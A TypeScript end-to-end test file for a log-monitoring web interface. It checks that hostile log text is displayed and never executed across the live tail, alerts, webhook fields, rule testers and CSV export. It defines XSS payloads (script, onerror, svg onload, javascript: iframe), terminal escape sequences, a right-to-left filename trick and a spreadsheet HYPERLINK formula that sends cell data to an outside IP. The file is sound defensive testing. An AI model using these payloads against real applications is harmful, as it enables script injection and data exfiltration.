import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { type Program, waitFor } from '../program.ts';
import { missing } from './missing.ts';
import { sendSyslog, startUi, type Ui } from './ui.ts';

/* Anyone may send us any bytes: what they say is shown, never done. */
const script = '<script>window.taken=1</script>';
const image = '<img src=x onerror=window.taken=1>';
const vector = '"><svg/onload=window.taken=1><iframe src=javascript:parent.taken=1>';
const formula = '=HYPERLINK("http://203.0.113.1/?"&A1,"open")';
const escapes = '\u001b]0;owned\u0007\u001b[2J\u001b[31mred\u001b[0m';
const reversed = 'user\u202egnp.exe\u202c done';
const texts = [script, image, vector, formula];

/** How many elements stand in the page that only an injection could have made, and whether one ran. */
async function injected(page: Page): Promise<{ elements: number; ran: boolean }> {
  return page.evaluate(() => ({
    elements: document.querySelectorAll('#root script, #root img, #root iframe, #root svg[onload], #root [onerror]')
      .length,
    ran: 'taken' in window,
  }));
}
const clean = { elements: 0, ran: false };

// Generous: the machine may be busy with everything else.
vi.setConfig({ testTimeout: 240_000 });

describe.skipIf(missing)('hostile log text', () => {
  let ui: Ui;
  let program: Program;
  beforeAll(async () => {
    ui = await startUi();
    program = ui.program;
  }, 180_000);
  afterAll(() => ui?.close());

  test('is text in the live tail, in its details, and in the filters made from it', async () => {
    const page = await ui.open('/live');
    await page.locator('[data-live=live]').waitFor();
    await sendSyslog(program, [
      ...texts.map((text) => `app 1 - - ${text}`),
      `app 1 - - ${escapes}`,
      `app 1 - - ${reversed}`,
      `${image.replaceAll(' ', '\u00a0')} 1 - - from a hostile program name`,
    ]);
    const tail = page.getByTestId('tail');
    for (const text of texts) await tail.getByText(text, { exact: false }).first().waitFor();
    // Control characters never reach the page as such; what is left of them is a visible symbol or nothing.
    const shown = await tail.textContent();
    expect(shown).not.toContain('\u001b');
    expect(shown).not.toContain('\u0007');
    expect(shown).not.toContain('\u202e');
    expect(shown).toContain('U+202E');
    expect(await injected(page)).toEqual(clean);

    await page
      .getByRole('button', { name: `Details of ${image}` })
      .first()
      .click();
    const details = page.getByRole('dialog');
    await details.getByText(image).first().waitFor();
    expect(await injected(page)).toEqual(clean);
    await page.keyboard.press('Escape');
    expect(ui.faults).toEqual([]);
  });

  test('is text in the webhook’s fields', async () => {
    const answer = await program.api('/api/webhook/hostile', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ message: `${script} by webhook`, [image]: { nested: vector }, user: image }),
    });
    expect(answer.status).toBe(200);
    const page = await ui.open('/live?q=by%20webhook');
    const line = page.getByRole('button', { name: /by webhook/ }).first();
    await line.waitFor();
    await line.click();
    await page.getByRole('dialog').getByText(vector, { exact: false }).first().waitFor();
    expect(await injected(page)).toEqual(clean);
  });

  test('is text in the queue, in the alert and in the overview', async () => {
    const lure = `${image.replaceAll(' ', '/')}`;
    await sendSyslog(
      program,
      Array.from(
        { length: 6 },
        (_, index) => `sshd 7 - - Failed password for invalid user ${lure} from 203.0.113.77 port ${5000 + index} ssh2`,
      ),
    );
    const id = await waitFor('the alert', async () => {
      const answer = await program.api('/api/alerts?entity=203.0.113.77');
      return ((await answer.json()) as { id: string }[])[0]?.id;
    });
    const page = await ui.open(`/alerts/${id}`);
    await page.getByTestId('events').getByText(lure, { exact: false }).first().waitFor();
    expect(await injected(page)).toEqual(clean);
    await page.getByRole('button', { name: 'Fields' }).click();
    await page.getByTestId('events').getByText(lure, { exact: false }).first().waitFor();
    expect(await injected(page)).toEqual(clean);
    for (const path of ['/alerts', '/alerts?group=entity', '/', '/sources']) {
      await page.goto(program.address + path);
      await page.getByRole('heading', { level: 1 }).waitFor();
      await page.waitForTimeout(400);
      expect(await injected(page), path).toEqual(clean);
    }
  });

  test('is text in the test boxes of rules and sources', async () => {
    const page = await ui.open('/rules/new');
    const box = page.getByTestId('rule-test');
    await box.getByLabel('Sample lines').fill([...texts, escapes, reversed].join('\n'));
    for (const text of texts) await box.locator('ol').first().getByText(text).first().waitFor();
    expect(await box.locator('ol').first().textContent()).not.toContain('\u202e');
    expect(await injected(page)).toEqual(clean);

    await page.goto(`${program.address}/sources`);
    await page.getByLabel('Lines to test').fill(texts.join('\n'));
    await page.getByRole('button', { name: 'See how it is read' }).click();
    await page.locator('#test-line ol').first().getByText(image).first().waitFor();
    expect(await injected(page)).toEqual(clean);
    expect(ui.faults).toEqual([]);
  });

  test('is no formula in the exported table', async () => {
    const headers = { 'content-type': 'application/json' };
    const rule = {
      name: '=1+1',
      type: 'pattern',
      severity: 'low',
      config: { field: 'raw', regex: 'calculated', group_by: 'user' },
    };
    expect((await program.api('/api/rules', { method: 'POST', headers, body: JSON.stringify(rule) })).status).toBe(201);
    const event = { message: 'calculated', user: formula };
    await program.api('/api/webhook/hostile', { method: 'POST', headers, body: JSON.stringify(event) });
    await waitFor('the alert of the formula', async () => {
      const alerts = (await (await program.api('/api/alerts?q=calculated')).json()) as unknown[];
      const all = (await (await program.api('/api/alerts')).json()) as { rule_name: string }[];
      return alerts.length > 0 || all.some(({ rule_name }) => rule_name === rule.name);
    });
    const answer = await program.api('/api/alerts/export?format=csv');
    expect(answer.status).toBe(200);
    for (const cell of (await answer.text()).split(/[\n,]/)) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+@\t\r]/);
  });
});
